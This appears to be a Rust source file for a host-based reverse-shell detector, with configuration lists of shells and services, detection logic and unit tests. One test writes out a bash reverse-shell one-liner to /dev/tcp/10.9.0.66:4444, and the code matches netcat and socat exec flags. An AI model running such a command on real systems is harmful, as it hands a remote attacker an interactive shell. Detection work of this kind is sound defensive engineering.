//! Reverse shells: an interactive shell wired to a network socket.
//!
//! The kernel events show it three ways, all checked: a shell (or netcat/socat) whose command
//! line puts a command's standard input and output on `/dev/tcp/…` or executes a program on a
//! socket; a process that connected out and then became, or spawned, a shell a moment later
//! (the `dup2` + `exec` of every one-liner in Python, Perl or bash); and a shell started by a
//! network-facing service (web shells, exploited PACS or device daemons).
//!
//! Two routines look alike and are not: a health check opening `/dev/tcp` on descriptor 3 (no
//! shell reads from it), and the shells that login services start. sshd, getty, cron and the
//! like accepted their session or started it themselves; their own connects (sshd's resolver
//! probing `0.0.0.0:22` through a UDP socket, for one) say nothing about an outbound shell.

use std::collections::HashMap;
use std::net::IpAddr;

use heir_model::{Alert, Category, Event, EventKind, NetAddr, Severity};
use serde::{Deserialize, Serialize};

use super::{redirects, strings};
use crate::util::{basename, bound, exe, glob, parent_exe, secs_to_ns};
use crate::{Detector, Kind, Spec};

const SPEC: Spec = Spec {
    rule: "host.reverse_shell",
    category: Category::ReverseShell,
    owasp_iot: "I3",
    enisa: "Nefarious activity/abuse: remote access / command and control",
    attack: "T1059.004",
};

/// Reverse-shell settings.
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct Config {
    pub enabled: bool,
    /// Executable basenames that are shells.
    pub shells: Vec<String>,
    /// Daemons that accept network input and should never start a shell.
    pub network_services: Vec<String>,
    /// Services that start login shells for sessions they accepted or scheduled; their
    /// connects never tie a shell to a peer. Matched by basename of an executable installed in
    /// the system's directories (`/usr`, `/bin`, `/sbin`, `/lib`), so a copy elsewhere named
    /// `sshd` is not one.
    pub session_services: Vec<String>,
    /// Seconds between an outbound connect and a shell exec that tie them together.
    pub connect_to_exec_secs: u64,
    pub max_tracked: usize,
}

impl Default for Config {
    fn default() -> Self {
        Self {
            enabled: true,
            shells: strings(&[
                "sh", "bash", "dash", "zsh", "ksh", "ash", "busybox", "fish", "tcsh", "csh", "mksh",
            ]),
            network_services: strings(&[
                "nginx",
                "apache2",
                "httpd",
                "lighttpd",
                "php-fpm",
                "php-cgi",
                "java",
                "tomcat",
                "node",
                "orthanc",
                "Orthanc",
                "storescp",
                "dcmqrscp",
                "mosquitto",
                "vsftpd",
                "proftpd",
                "mysqld",
                "postgres",
                "redis-server",
            ]),
            session_services: strings(&[
                "sshd",
                "sshd-session",
                "dropbear",
                "login",
                "agetty",
                "getty",
                "mingetty",
                "in.telnetd",
                "telnetd",
                "inetd",
                "xinetd",
                "cron",
                "crond",
                "anacron",
                "atd",
                "systemd",
            ]),
            connect_to_exec_secs: 10,
            max_tracked: 65_536,
        }
    }
}

pub struct ReverseShell {
    cfg: Config,
    /// pid → (time, peer) of its last outbound inet connect.
    connects: HashMap<u32, (u64, IpAddr, u16)>,
}

impl ReverseShell {
    pub fn new(cfg: Config) -> Self {
        Self {
            cfg,
            connects: HashMap::new(),
        }
    }

    fn is_shell(&self, path: &str) -> bool {
        let b = basename(path);
        self.cfg.shells.iter().any(|s| s == b)
    }

    fn is_session_service(&self, p: &heir_model::Process) -> bool {
        let path = exe(p);
        let system = ["/usr/", "/bin/", "/sbin/", "/lib/", "/lib64/"]
            .iter()
            .any(|d| path.starts_with(d));
        system
            && self
                .cfg
                .session_services
                .iter()
                .any(|s| s == basename(path))
    }
}

/// socat and netcat address forms that run a program on the connection.
const EXEC_ARGS: [&str; 3] = ["*exec:*", "*EXEC:*", "*system:*"];

impl Detector for ReverseShell {
    fn name(&self) -> &'static str {
        "reverse_shell"
    }

    fn kinds(&self) -> &'static [Kind] {
        &[Kind::Connect, Kind::Exec, Kind::Exit]
    }

    fn inspect(&mut self, ev: &Event, out: &mut Vec<Alert>) {
        let now = ev.ts.as_nanos();
        let window = secs_to_ns(self.cfg.connect_to_exec_secs);
        match &ev.kind {
            EventKind::Connect {
                addr: NetAddr::Inet { ip, port },
                ret,
            } if (*ret == 0 || *ret == -115)
                && !ip.is_unspecified()
                && !self.is_session_service(&ev.process) =>
            {
                bound(&mut self.connects, self.cfg.max_tracked, |_, c| {
                    now.saturating_sub(c.0) < window
                });
                self.connects.insert(ev.process.pid, (now, *ip, *port));
            }
            EventKind::Exit { .. } => {
                self.connects.remove(&ev.process.pid);
            }
            EventKind::Exec {
                filename,
                argv,
                ret,
                ..
            } if *ret == 0 => {
                let b = basename(filename);
                let shell = self.is_shell(filename);
                let joined = argv.join(" ");
                let mut evidence = Vec::new();
                let mut peer = None;
                let mut confidence: f32 = 0.0;
                if (shell
                    || matches!(
                        b,
                        "perl" | "python" | "python3" | "ruby" | "php" | "awk" | "gawk"
                    ))
                    && redirects::std_streams_on_socket(&joined)
                {
                    evidence.push(format!(
                        "{b} redirects its standard streams to a network socket: `{joined}`"
                    ));
                    confidence = 0.95;
                }
                if matches!(b, "nc" | "ncat" | "netcat" | "nc.traditional" | "socat")
                    && (argv
                        .iter()
                        .any(|a| a == "-e" || a == "-c" || a == "--exec" || a == "--sh-exec")
                        || EXEC_ARGS.iter().any(|p| glob(p, &joined)))
                {
                    evidence.push(format!(
                        "{b} executes a program on a network connection: `{joined}`"
                    ));
                    confidence = confidence.max(0.9);
                }
                if shell {
                    let own = self
                        .connects
                        .get(&ev.process.pid)
                        .filter(|c| now.saturating_sub(c.0) <= window);
                    let parent = self
                        .connects
                        .get(&ev.process.ppid)
                        .filter(|c| now.saturating_sub(c.0) <= window);
                    if let Some((t, ip, port)) = own.or(parent).copied() {
                        let who = if own.is_some() {
                            "the same process"
                        } else {
                            "its parent"
                        };
                        evidence.push(format!(
                            "{who} connected to {ip}:{port} {:.1}s before `{}` started",
                            now.saturating_sub(t) as f64 / 1e9,
                            if joined.is_empty() {
                                filename.as_str()
                            } else {
                                joined.as_str()
                            }
                        ));
                        peer = Some((ip, port));
                        confidence = confidence.max(if argv.iter().any(|a| a == "-i") {
                            0.95
                        } else {
                            0.85
                        });
                    }
                    if let Some(p) = parent_exe(&ev.process) {
                        let pb = basename(p);
                        if self.cfg.network_services.iter().any(|s| s == pb) {
                            evidence.push(format!("shell started by network-facing service {p}"));
                            confidence = confidence.max(0.8);
                        }
                    }
                }
                if evidence.is_empty() {
                    return;
                }
                let mut a = SPEC.process_alert(
                    ev,
                    format!(
                        "Reverse shell: {} (pid {})",
                        exe(&ev.process),
                        ev.process.pid
                    ),
                    Severity::Critical,
                    confidence,
                );
                if let Some((ip, port)) = peer {
                    a.dst_ip = Some(ip);
                    a.dst_port = Some(port);
                }
                a.evidence = evidence;
                out.push(a);
            }
            _ => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detectors::fixtures::*;

    #[test]
    fn bash_dev_tcp_one_liner_fires() {
        let mut d = ReverseShell::new(Config::default());
        let outer = proc_(500, 400, 33, "bash", "/usr/bin/bash", "/usr/sbin/apache2");
        let inner = proc_(501, 500, 33, "bash", "/usr/bin/bash", "/usr/bin/bash");
        // bash -c 'bash -i >& /dev/tcp/10.9.0.66/4444 0>&1' started from a web shell.
        let events = [
            exec(
                0,
                outer.clone(),
                "/usr/bin/bash",
                &["bash", "-c", "bash -i >& /dev/tcp/10.9.0.66/4444 0>&1"],
            ),
            ev(
                1,
                inner.clone(),
                heir_model::EventKind::Fork { child_pid: 502 },
            ),
            connect(2, inner.clone(), "10.9.0.66", 4444),
            exec(3, inner, "/usr/bin/bash", &["bash", "-i"]),
        ];
        let alerts = run(&mut d, &events);
        assert_eq!(alerts.len(), 2, "{alerts:#?}");
        assert!(alerts[0].evidence.iter().any(|e| e.contains("/dev/tcp")));
        assert!(alerts[0].evidence.iter().any(|e| e.contains("apache2")));
        assert_eq!(alerts[1].dst_port, Some(4444));
        assert_complete(&alerts);
    }

    #[test]
    fn python_dup2_one_liner_fires_via_parent_connect() {
        let mut d = ReverseShell::new(Config::default());
        let py = proc_(
            700,
            1,
            1000,
            "python3",
            "/usr/bin/python3.11",
            "/usr/bin/bash",
        );
        let sh = proc_(701, 700, 1000, "sh", "/usr/bin/dash", "/usr/bin/python3.11");
        let events = [
            connect(0, py, "10.9.0.66", 9001),
            exec(40, sh, "/bin/sh", &["/bin/sh", "-i"]),
        ];
        let alerts = run(&mut d, &events);
        assert_eq!(alerts.len(), 1);
        assert_eq!(alerts[0].dst_ip, Some(ip("10.9.0.66")));
    }

    #[test]
    fn admin_sessions_and_scripts_stay_quiet() {
        let mut d = ReverseShell::new(Config::default());
        let sshd = proc_(800, 1, 0, "sshd", "/usr/sbin/sshd", "/sbin/init");
        let login = proc_(801, 800, 1000, "bash", "/usr/bin/bash", "/usr/sbin/sshd");
        let curl = proc_(802, 801, 1000, "curl", "/usr/bin/curl", "/usr/bin/bash");
        let cron_sh = proc_(803, 1, 0, "sh", "/usr/bin/dash", "/usr/sbin/cron");
        let events = [
            exec(0, login.clone(), "/usr/bin/bash", &["-bash"]),
            exec(
                10,
                curl.clone(),
                "/usr/bin/curl",
                &["curl", "https://updates.example/x"],
            ),
            connect(11, curl.clone(), "203.0.113.8", 443),
            ev(
                20,
                curl,
                heir_model::EventKind::Exit {
                    code: 0,
                    signal: None,
                },
            ),
            exec(
                30_000,
                cron_sh,
                "/bin/sh",
                &["/bin/sh", "-c", "run-parts /etc/cron.daily"],
            ),
            exec(30_001, login, "/usr/bin/ls", &["ls", "-l"]),
        ];
        assert!(run(&mut d, &events).is_empty());
        let _ = sshd;
    }

    #[test]
    fn a_dev_tcp_health_check_on_fd_3_stays_quiet() {
        let mut d = ReverseShell::new(Config::default());
        let check = proc_(900, 1, 0, "bash", "/usr/bin/bash", "/usr/bin/monit");
        let events = [
            exec(
                0,
                check.clone(),
                "/usr/bin/bash",
                &["bash", "-c", "exec 3<>/dev/tcp/10.1.0.5/5432"],
            ),
            connect(1, check, "10.1.0.5", 5432),
        ];
        assert!(run(&mut d, &events).is_empty());
    }

    #[test]
    fn shells_that_sshd_starts_are_not_outbound_but_a_fake_sshd_is() {
        let mut d = ReverseShell::new(Config::default());
        let sshd = proc_(950, 1, 0, "sshd", "/usr/sbin/sshd", "/usr/sbin/sshd");
        let motd = proc_(951, 950, 0, "sh", "/usr/bin/dash", "/usr/sbin/sshd");
        let events = [
            connect(0, sshd.clone(), "0.0.0.0", 22),
            connect(1, sshd, "192.0.2.10", 53),
            exec(
                300,
                motd,
                "/bin/sh",
                &["sh", "-c", "/usr/bin/env -i run-parts /etc/update-motd.d"],
            ),
        ];
        assert!(run(&mut d, &events).is_empty());

        let fake = proc_(960, 1, 1000, "sshd", "/tmp/.x/sshd", "/usr/bin/bash");
        let sh = proc_(961, 960, 1000, "sh", "/usr/bin/dash", "/tmp/.x/sshd");
        let events = [
            connect(0, fake, "203.0.113.9", 443),
            exec(40, sh, "/bin/sh", &["/bin/sh", "-i"]),
        ];
        let alerts = run(&mut d, &events);
        assert_eq!(alerts.len(), 1, "{alerts:#?}");
        assert_eq!(alerts[0].dst_port, Some(443));
    }
}
